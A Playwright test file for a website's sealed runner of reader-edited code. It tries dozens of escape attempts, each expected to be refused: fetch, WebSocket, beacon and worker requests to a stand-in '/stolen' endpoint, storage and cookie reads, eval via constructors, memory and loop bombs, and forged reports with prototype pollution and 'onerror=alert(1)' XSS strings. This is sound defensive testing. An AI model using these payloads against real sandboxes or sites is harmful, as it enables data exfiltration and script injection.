/**
 * Attempts to get out of the sealed runner. Each runs as a reader's edited code in the built site. The attacker
 * is taken at his best: he silences the report that would end his worker and has the whole two seconds.
 */
import { createServer, request as forward, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { writeShared } from '../src/notes/index.ts';
import { test as base, expect, type Page } from './fixtures.ts';

/** Passes the site on, so that the page's own origin is watched too, and counts what only an escape asks for. */
class Watch {
  readonly escapes: string[] = [];
  readonly #server: Server;
  #site = '';

  constructor() {
    this.#server = createServer((asked, answer) => {
      if (asked.url?.startsWith('/stolen')) this.escapes.push(asked.url);
      const passed = forward(new URL(asked.url ?? '/', this.#site), { headers: asked.headers }, (found) => {
        answer.writeHead(found.statusCode ?? 500, found.headers);
        found.pipe(answer);
      });
      asked.pipe(passed);
    });
    this.#server.on('upgrade', (asked, socket) => {
      this.escapes.push(`upgrade ${asked.url}`);
      socket.destroy();
    });
  }

  /** Starts to watch `site`; it ends with the worker. */
  async open(site: string): Promise<string> {
    this.#site = site;
    await new Promise<void>((done) => this.#server.listen(0, '127.0.0.1', done));
    return `127.0.0.1:${(this.#server.address() as AddressInfo).port}`;
  }
}

const OUTPUTS = `export const outputs = { x: { label: 'x', unit: '', format: { fixed: 0 }, main: true } };`;

/** A note that carries out `attack`, then reports through the channel that it kept for itself. */
const attacker = (attack: string): string => `
${OUTPUTS}
export const say = () => 'Done.';
const post = self.postMessage.bind(self);
export function compute() {
  self.postMessage = () => {};
  const tell = (text: unknown) => post('>' + text);
  const end = () => post('!' + JSON.stringify({ ran: true, result: { x: 0 }, outputs, say: 'Done.' }));
  const attack = async (): Promise<unknown> => { ${attack} };
  attack().then((got) => tell('GOT ' + got), (error) => tell('refused: ' + error)).then(() => setTimeout(end, 300));
  return { x: 0 };
}`;

const event = (what: string): string =>
  `return new Promise((done, fail) => { const it = ${what}; it.onopen = it.onload = it.onmessage = () => done('open'); it.onerror = () => fail('error event'); });`;

/** One page a worker: each attack ends with the proof that it left nothing behind, and the next finds it so. */
const test = base.extend({ page: ({ sharedPage }, use) => use(sharedPage) });

const watch = new Watch();
let host: string;

test.beforeEach(async ({ page, baseURL }) => {
  host ??= await watch.open(baseURL ?? '');
  const address = `http://${host}/notes/incidence/`;
  if (page.url() !== address) await page.goto(address);
  await page.getByRole('button', { name: 'Edit and run' }).click();
  await expect(page.locator('.prism-code-editor')).toBeVisible();
});

async function run(page: Page, code: string): Promise<string> {
  const told = page.locator('.told');
  await page.locator('.prism-code-editor textarea').fill(code);
  await page.getByRole('button', { name: 'Run', exact: true }).click();
  await expect(told).not.toBeEmpty({ timeout: 12_000 });
  return (await told.textContent()) ?? '';
}

/** The page still answers, the frame is gone, nothing was asked of the server, and nothing is left in the browser. */
async function expectSealed(page: Page): Promise<void> {
  await page.getByRole('button', { name: 'Reset' }).click();
  await expect(page.locator('iframe')).toHaveCount(0);
  await expect(page.locator('.prism-code-editor')).toHaveCount(0);
  await page.getByLabel('New cases counted').first().fill('70');
  await expect(page.locator('.note .main b')).toHaveText('70.0');
  expect(watch.escapes).toEqual([]);
  expect(page.context().pages()).toHaveLength(1);
  expect(await page.evaluate(leftBehind)).toEqual({
    kept: [],
    cookies: '',
    bases: 0,
    caches: [],
    polluted: false,
  });
  await page.getByRole('button', { name: 'Reset' }).click();
}

/** What code that got out could have left; runs in the page. Reset has taken the reader's own copy away. */
async function leftBehind() {
  return {
    // That the text face has come, the page itself keeps.
    kept: [...Object.keys(localStorage), ...Object.keys(sessionStorage)].filter((key) => key !== 'font'),
    cookies: document.cookie,
    bases: (await indexedDB.databases()).length,
    caches: await caches.keys(),
    polluted: 'polluted' in {} || 'polluted' in Object.prototype,
  };
}

test('the watch sees what the page itself asks for', async ({ page, expectMessage }) => {
  expectMessage(/404 .*\/stolen\)$/, 'the page asks for what is not there, to be seen asking');
  await page.evaluate(() => fetch('/stolen'));
  expect(watch.escapes).toEqual(['/stolen']);
  watch.escapes.length = 0;
  await expectSealed(page);
});

test('the attacker’s own channel works', async ({ page }) => {
  expect(await run(page, attacker(`return 1 + 1;`))).toContain('GOT 2');
  await expectSealed(page);
});

/** `$` stands for a foreign origin, `@` for the page's own. */
const REQUESTS: [name: string, attack: string][] = [
  ['fetch of a foreign origin', `return (await fetch('$/stolen')).status;`],
  ['fetch of the site itself', `return (await fetch('@/stolen')).status;`],
  [
    'fetch without CORS, kept alive',
    `return (await fetch('$/stolen', { mode: 'no-cors', keepalive: true })).type;`,
  ],
  [
    'XMLHttpRequest',
    `const it = new XMLHttpRequest(); it.open('GET', '$/stolen', false); it.send(); return it.status;`,
  ],
  ['WebSocket', event(`new WebSocket('$/stolen'.replace('http', 'ws'))`)],
  ['EventSource', event(`new EventSource('$/stolen')`)],
  [
    'WebTransport',
    `const it = new WebTransport('$/stolen'.replace('http', 'https')); await it.ready; return 'open';`,
  ],
  ['dynamic import', `return Object.keys(await import('@/stolen.js'));`],
  ['dynamic import of data', `return Object.keys(await import('data:text/javascript,export const a = 1'));`],
  ['importScripts', `importScripts('@/stolen.js'); return 'loaded';`],
  ['sendBeacon', `return navigator.sendBeacon('$/stolen', 'x');`],
  ['a nested worker', event(`new Worker('@/stolen.js')`)],
  ['a nested worker from a blob', event(`new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))`)],
  ['a shared worker', event(`new SharedWorker('@/stolen.js')`)],
  ['a font', `await new FontFace('f', 'url($/stolen)').load(); return 'loaded';`],
  ['a service worker', `return await navigator.serviceWorker.register('@/stolen.js');`],
  [
    'navigation',
    `self.location = '$/stolen'; if (String(self.location).includes('stolen')) return 'moved'; throw 'stayed';`,
  ],
  ['opening a window', `return self.open('$/stolen');`],
  [
    'fetch of a request object',
    `return (await fetch(new Request('@/stolen', { method: 'POST', body: 'x' }))).status;`,
  ],
  [
    'XMLHttpRequest in its own time',
    event(`Object.assign(new XMLHttpRequest(), {})`).replace(
      'it.onerror',
      "it.open('POST', '@/stolen'); it.send('x'); it.onerror",
    ),
  ],
  ['WebSocketStream', `await new WebSocketStream('$/stolen'.replace('http', 'ws')).opened; return 'open';`],
  [
    'WebRTC',
    `const it = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1' }] }); return it.createOffer();`,
  ],
  ['a picture', `const it = new Image(); it.src = '@/stolen'; return 'asked';`],
  ['a picture element', `document.createElement('img').src = '@/stolen'; return 'asked';`],
  [
    'a style sheet',
    `document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '@/stolen' })); return 'asked';`,
  ],
  [
    'prefetch',
    `document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: '@/stolen' })); return 'asked';`,
  ],
  [
    'a form',
    `const it = document.createElement('form'); it.action = '@/stolen'; it.method = 'post'; it.submit(); return 'sent';`,
  ],
  [
    'a frame',
    `document.body.append(Object.assign(document.createElement('iframe'), { src: '@/stolen' })); return 'asked';`,
  ],
  [
    'importScripts of a blob',
    `importScripts(URL.createObjectURL(new Blob(['postMessage(">GOT blob")']))); return 'loaded';`,
  ],
  ['importScripts of data', `importScripts('data:text/javascript,1'); return 'loaded';`],
  [
    'dynamic import of a blob',
    `return Object.keys(await import(URL.createObjectURL(new Blob(['export const a = 1'], { type: 'text/javascript' }))));`,
  ],
  [
    'a nested worker under its constructor’s name',
    `const Hidden = Object.getPrototypeOf(self).Worker ?? (0, globalThis)['Wor' + 'ker']; return new Hidden('@/stolen.js');`,
  ],
  ['fetch of data', `return (await fetch('data:text/plain,x')).status;`],
  ['fetch of a blob', `return (await fetch(URL.createObjectURL(new Blob(['x'])))).status;`],
  ['background fetch', `return await registration.backgroundFetch.fetch('a', ['@/stolen']);`],
  [
    'a report of errors',
    `return await new ReportingObserver(() => {}).observe() ?? navigator.sendBeacon('@/stolen');`,
  ],
];

for (const [name, attack] of REQUESTS)
  test(`no request by ${name}`, async ({ page }) => {
    const foreign = `http://localhost:${host.split(':')[1]}`;
    const told = await run(
      page,
      attacker(attack.replaceAll('$/', `${foreign}/`).replaceAll('@/', `http://${host}/`)),
    );
    expect(told).toContain('refused: ');
    expect(told).not.toContain('GOT');
    await expectSealed(page);
  });

const REACHES: [name: string, attack: string][] = [
  ['IndexedDB', event(`indexedDB.open('a')`).replace('it.onopen', 'it.onsuccess = it.onopen')],
  ['the cache', `return (await caches.open('a')).constructor.name;`],
  ['local storage', `return localStorage.length;`],
  ['the file system', `return await navigator.storage.getDirectory();`],
  ['cookies', `return document.cookie;`],
  ['the cookie store', `return (await cookieStore.getAll()).length;`],
  ['the page’s document', `return parent.document.title;`],
  ['the top window', `top.location.href = '@/stolen'; return 'moved';`],
  ['eval', `return eval('1 + 1');`],
  ['a function made from text', `return new Function('return 1')();`],
  ['a constructor’s constructor', `return [].at.constructor('return this')();`],
  ['session storage', `return sessionStorage.length;`],
  ['databases’ names', `return (await indexedDB.databases()).length;`],
  ['lasting storage', `return await navigator.storage.persist();`],
  ['locks that the page could wait for', `return await navigator.locks.request('theme', () => 'held');`],
  ['the page that opened it', `return opener.location.href;`],
  ['the frame’s window', `return window.parent.location.href;`],
  ['an async function made from text', `return (async () => {}).constructor('return 1')();`],
  ['a generator made from text', `return [...(function* () {}).constructor('yield 1')()];`],
  ['a function made by reflection', `return Reflect.construct((() => {}).constructor, ['return 1'])();`],
  [
    'notifications',
    `const it = new Notification('hello'); await new Promise((shown, refused) => { it.onshow = shown; it.onerror = () => refused('error event'); }); return 'shown';`,
  ],
  ['memory shared with the page', `return new SharedArrayBuffer(8).byteLength;`],
  ['an origin of its own', `if (self.origin === 'null') throw 'opaque'; return self.origin;`],
  ['WebAssembly', `return await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));`],
];

for (const [name, attack] of REACHES)
  test(`no way to ${name}`, async ({ page, expectMessage }) => {
    if (attack.includes('.databases('))
      expectMessage(
        /thrown: undefined$/,
        'Chromium refuses twice: it throws, and rejects a promise nobody holds',
      );
    const told = await run(page, attacker(attack));
    expect(told).toContain('refused: ');
    expect(told).not.toContain('GOT');
    await expectSealed(page);
  });

const FLOODS: [name: string, body: string, told: string][] = [
  ['an endless loop', `for (;;);`, 'stopped after two seconds'],
  [
    'an endless loop of promises',
    `const go = () => Promise.resolve().then(go); go(); for (;;);`,
    'stopped after two seconds',
  ],
  ['endless recursion', `const go = (): number => 1 + go(); return { x: go() };`, 'call stack'],
  ['a message flood', `for (;;) self.postMessage('>x');`, 'it sent too much'],
  ['a console flood', `for (;;) console.log('x'.repeat(900));`, 'it sent too much'],
  ['one huge message', `self.postMessage('!' + 'x'.repeat(2e7)); for (;;);`, 'it sent too much'],
  [
    'a message that is no text',
    `self.postMessage({ kind: 'report', json: '{}' }); for (;;);`,
    'it sent too much',
  ],
  ['a worker that ends itself', `self.close(); for (;;);`, 'stopped after two seconds'],
  ['an endless wait', `Atomics.wait(new Int32Array(new ArrayBuffer(8)), 0, 0);`, 'Line '],
  ['endless microtasks before the end', `queueMicrotask(function go() { queueMicrotask(go); });`, ''],
  ['a flood of timers', `for (let i = 0; i < 1e5; i++) setInterval(() => self.postMessage('>x'), 0);`, ''],
  ['a report that is no result', `self.postMessage('!nonsense'); for (;;);`, 'no result'],
];

for (const [name, body, told] of FLOODS)
  test(`the page outlives ${name}`, async ({ page }) => {
    const code = `${OUTPUTS}\nexport const say = () => 'Done.';\nexport function compute() { ${body} return { x: 0 }; }`;
    expect(await run(page, code)).toContain(told);
    if (told) await expect(page.locator('.stale')).toHaveText('Last good result: your code gave none');
    await expectSealed(page);
  });

const BOMBS: [name: string, body: string][] = [
  ['lists', `const all: number[][] = []; for (;;) all.push(Array(1e6).fill(all.length));`],
  ['buffers', `const all: Uint8Array[] = []; for (;;) all.push(new Uint8Array(1e8).fill(1));`],
  [
    'texts',
    `let all = 'x'; const kept: string[] = []; for (;;) { all += all.slice(0, 1e7); kept.push(all + kept.length); }`,
  ],
];

for (const [name, body] of BOMBS)
  test(`the page outlives a bomb of ${name}`, async ({ page }) => {
    const code = `${OUTPUTS}\nexport const say = () => 'Done.';\nexport function compute() { ${body} return { x: 0 }; }`;
    expect(await run(page, code)).toMatch(/stopped|memory|could not|length|allocation/i);
    await expectSealed(page);
  });

/** The longest that the page did not draw, in milliseconds, over a second and a half; runs in the page. */
function longestPause(): Promise<number> {
  return new Promise((done) => {
    const start = performance.now();
    let [last, longest] = [start, 0];
    const draw = (now: number): void => {
      longest = Math.max(longest, now - last);
      last = now;
      if (now - start < 1500) requestAnimationFrame(draw);
      else done(longest);
    };
    requestAnimationFrame(draw);
  });
}

for (const [name, body] of [
  ['a message flood', `for (;;) self.postMessage('>x');`],
  ['a flood of large messages', `for (;;) self.postMessage('>' + 'x'.repeat(1e6));`],
  BOMBS[0] ?? ['', ''],
])
  test(`the page answers during ${name}`, async ({ page }) => {
    const code = `${OUTPUTS}\nexport const say = () => 'Done.';\nexport function compute() { ${body} return { x: 0 }; }`;
    await page.locator('.prism-code-editor textarea').fill(code);
    const pause = page.evaluate(longestPause);
    await page.getByRole('button', { name: 'Run', exact: true }).click();
    // A frame is 16 ms; the rest is for a machine whose two cores do much else.
    expect(await pause).toBeLessThan(1000);
    await expect(page.locator('.told')).not.toBeEmpty({ timeout: 12_000 });
    await expectSealed(page);
  });

test('nothing comes after the end', async ({ page }) => {
  const told = await run(
    page,
    attacker(
      `setTimeout(() => post('>GOT late'), 700); setInterval(() => fetch('@/stolen').catch(() => {}), 50); return 'early';`,
    ),
  );
  expect(told).toContain('GOT early');
  await page.waitForTimeout(1500);
  await expect(page.locator('.told')).not.toContainText('GOT late');
  await expectSealed(page);
});

test('a text given to a timer is not run', async ({ page }) => {
  const told = await run(
    page,
    attacker(
      `setTimeout("self.postMessage('>GOT timer')"); globalThis.post2 = post; setTimeout("post2('>GOT timer')"); await new Promise((done) => setTimeout(done, 200)); throw 'waited';`,
    ),
  );
  expect(told).toContain('refused: waited');
  expect(told).not.toContain('GOT');
  await expectSealed(page);
});

test('nobody hears it on a channel of the page’s name', async ({ page }) => {
  await page.evaluate(() => {
    const heard: unknown[] = [];
    Object.assign(globalThis, { heard });
    new BroadcastChannel('page').onmessage = ({ data }) => heard.push(data);
    addEventListener('message', ({ data }) => heard.push(data));
  });
  await run(
    page,
    attacker(
      `new BroadcastChannel('page').postMessage('stolen'); self.postMessage({ kind: 'report' }); return 'sent';`,
    ),
  );
  expect(await page.evaluate(() => (globalThis as unknown as { heard: unknown[] }).heard)).toEqual([]);
  await expectSealed(page);
});

const FORGERIES: [name: string, json: string][] = [
  [
    'a polluted prototype',
    `{"ran":true,"__proto__":{"polluted":1},"result":{"x":1,"__proto__":{"polluted":1}},"say":"Done."}`,
  ],
  [
    'a polluted constructor',
    `{"ran":true,"result":{"x":1},"outputs":{"x":{"label":"x","unit":"","format":{"fixed":0}},"constructor":{"prototype":{"polluted":1}}},"say":"Done."}`,
  ],
  [
    'an attribute in a word’s colour',
    `{"ran":true,"result":{"x":"a"},"outputs":{"x":{"label":"x","unit":"","format":{"words":{"a":{"word":"a","shape":"full","tone":"\\"onmouseover=alert(1)"}}}}},"say":"Done."}`,
  ],
  [
    'an attribute in an icon’s role',
    `{"ran":true,"result":{"x":1},"say":"Done.","icons":{"title":"t","total":100,"groups":[{"name":"a","count":1,"role":"\\"onload=alert(1)"}]}}`,
  ],
  [
    'more icons than a page can draw',
    `{"ran":true,"result":{"x":1},"say":"Done.","icons":{"title":"t","total":1000000000,"groups":[]}}`,
  ],
  [
    'more points than a page can draw',
    `{"ran":true,"result":{"x":1},"say":"Done.","plot":{"title":"t","x":{"label":"x","unit":"","scale":"linear"},"y":{"label":"y","unit":"","scale":"linear"},"series":[{"kind":"line","name":"a","role":"main","points":' + JSON.stringify(Array(6000).fill([1, 1])) + '}]}}`,
  ],
  ['depth', `' + '['.repeat(100000) + '`],
];

for (const [name, json] of FORGERIES)
  test(`a forged report with ${name} is refused or harmless`, async ({ page }) => {
    const attack = `self.postMessage('!' + '${json}'); await new Promise(() => {});`;
    const told = await run(page, attacker(attack.replace('self.postMessage', 'post')));
    expect(told).not.toContain('GOT');
    await expect(page.locator('.note [onload], .note [onmouseover]')).toHaveCount(0);
    await expectSealed(page);
  });

test('code that spoils what the report is made with harms only its own report', async ({ page }) => {
  const code = `${OUTPUTS}
export const say = () => 'Done.';
export function compute() {
  JSON.stringify = () => { throw new Error('spoilt'); };
  Object.prototype.polluted = 1;
  Array.prototype[Symbol.iterator] = function* () {};
  return { x: 0 };
}`;
  await run(page, code);
  await expectSealed(page);
});

test('comments for tools ask for nothing', async ({ page }) => {
  const code = `${OUTPUTS}\nexport const say = () => 'Done.';\nexport const compute = () => ({ x: 5 });\n//# sourceMappingURL=http://${host}/stolen.map\n//# sourceURL=http://${host}/stolen.js\n// </script><script src=/stolen>\n`;
  expect(await run(page, code)).toContain('Your code ran');
  await expectSealed(page);
});

test('markup in a forged report stays text', async ({ page }) => {
  const image = `<img src=/stolen onerror=alert(1)>`;
  const plot = `{ title: '${image}', x: { label: '${image}', unit: '', scale: 'linear' }, y: { label: 'y', unit: '', scale: 'linear' }, series: [{ kind: 'point', name: '${image}', role: 'main', points: [[1, 1]] }] }`;
  const code = `${OUTPUTS.replace("label: 'x'", `label: '${image}'`)}
export const compute = () => { console.log('${image}'); return { x: 1 }; };
export const say = () => '${image}';
export const plot = () => (${plot});`;
  expect(await run(page, code)).toContain(image);
  await expect(page.locator('.note .say')).toHaveText(image);
  await expect(page.locator('.note img')).toHaveCount(0);
  await expectSealed(page);
});

test('code that closes its wrapper is still in the worker', async ({ page }) => {
  const told = await run(page, `};\nfetch('/stolen');\nconst more = () => {`);
  expect(told).toMatch(/^▲? ?Line 1:\d+: /);
  await expectSealed(page);
});

/** Inside the frame itself, which a reader's code never reaches: a wall behind the wall. */
const FRAME_ATTACKS: [name: string, attack: (site: string) => unknown][] = [
  ['a picture', (site) => Object.assign(new Image(), { src: `${site}/stolen` }) && undefined],
  ['fetch', (site) => fetch(`${site}/stolen`).then(({ status }) => status)],
  // It says that it was queued; the server tells whether it came.
  ['a beacon', (site) => navigator.sendBeacon(`${site}/stolen`) && undefined],
  ['storage', () => localStorage.length],
  ['cookies', () => document.cookie],
  ['the page', () => parent.document.title],
  [
    'the top window’s address',
    (site) => {
      if (top) top.location.href = `${site}/stolen`;
      return 'moved';
    },
  ],
  ['a window', (site) => open(`${site}/stolen`) ?? Promise.reject('refused')],
];

for (const [name, attack] of FRAME_ATTACKS)
  test(`the frame itself has no way to ${name}`, async ({ page, expectMessage }) => {
    expectMessage(
      /Content Security Policy|allow-top-navigation|allow-popups/,
      'the browser says what the walls of the frame have stopped',
    );
    const code = `${OUTPUTS}\nexport const say = () => 'Done.';\nexport function compute() { for (;;); return { x: 0 }; }`;
    await page.locator('.prism-code-editor textarea').fill(code);
    await page.getByRole('button', { name: 'Run', exact: true }).click();
    await expect(page.locator('iframe')).toHaveCount(1);
    const frame = page.frames().find((each) => each !== page.mainFrame());
    if (!frame) throw new Error('There is no frame.');
    const got = await frame.evaluate(attack, `http://${host}`).then(
      (value) => value,
      () => undefined,
    );
    expect(got).toBeUndefined();
    await expect(page.locator('.told')).toContainText('stopped after two seconds', { timeout: 12_000 });
    await expectSealed(page);
  });

/** The fragment that shares `text` as the site makes it. */
const shared = async (text: string): Promise<string> => {
  const made = await writeShared(text, 'incidence');
  if ('problem' in made) throw new Error(made.problem);
  return made.code;
};
const HOSTILE = `fetch('/stolen'); ${OUTPUTS} export const say = () => 'Stolen.'; export const compute = () => ({ x: 666 });`;

test('a hostile shared link runs nothing until its reader runs it', async ({ page, expectMessage }) => {
  expectMessage(
    /Failed to parse URL from \/stolen$/,
    'run at last, the code asks for what no worker of a blob can name',
  );
  const started: string[] = [];
  page.on('worker', (worker) => started.push(worker.url()));
  page.on('frameattached', () => started.push('frame'));
  await page.goto('about:blank');
  await page.goto(`http://${host}/notes/incidence/?incidence.events=65#edit=${await shared(HOSTILE)}`);
  await expect(page.locator('.notice')).toContainText('Nothing of it has run.');
  await expect(page.locator('.prism-code-editor textarea')).toHaveValue(HOSTILE);
  await expect(page.locator('.note .main b')).toHaveText('65.0');
  await page.getByLabel('New cases counted').first().fill('66');
  await expect(page.locator('.note .main b')).toHaveText('66.0');
  await page.getByRole('button', { name: 'Show changes' }).click();
  await page.waitForTimeout(500);
  expect(started).toEqual([]);
  expect(await page.evaluate(() => Object.keys(localStorage).filter((key) => key !== 'font'))).toEqual([]);
  await page.getByRole('button', { name: 'Run', exact: true }).click();
  await expect(page.locator('.note .main b')).toHaveText('666');
  expect(started).not.toEqual([]);
  await expectSealed(page);
});

const BROKEN: [kind: string, code: (good: string) => string, told: string][] = [
  ['cut short', (good) => good.slice(0, -9), 'cut short or damaged'],
  ['damaged', (good) => `${good.slice(0, -9)}AAAAAAAAA`, 'cut short or damaged'],
  ['oversized', (good) => `${good}${'A'.repeat(20_000)}`, 'more code than a link may'],
  ['from another version', (good) => good.replace(/^1/, '2'), 'another version'],
  ['empty', () => '', 'another version'],
  ['of markup', () => '<img src=/stolen onerror=alert(1)>', 'another version'],
];

for (const [kind, breakIt, told] of BROKEN)
  test(`a shared link that is ${kind} says so and opens the original`, async ({ page }) => {
    await page.goto('about:blank');
    await page.goto(`http://${host}/notes/incidence/#edit=${breakIt(await shared(HOSTILE))}`);
    await expect(page.locator('.notice')).toContainText(told);
    await expect(page.locator('.notice')).toContainText('This is the original.');
    await expect(page.locator('.src code').last()).toContainText('poissonRate');
    await expect(page.locator('.prism-code-editor')).toHaveCount(0);
    await expectSealed(page);
  });
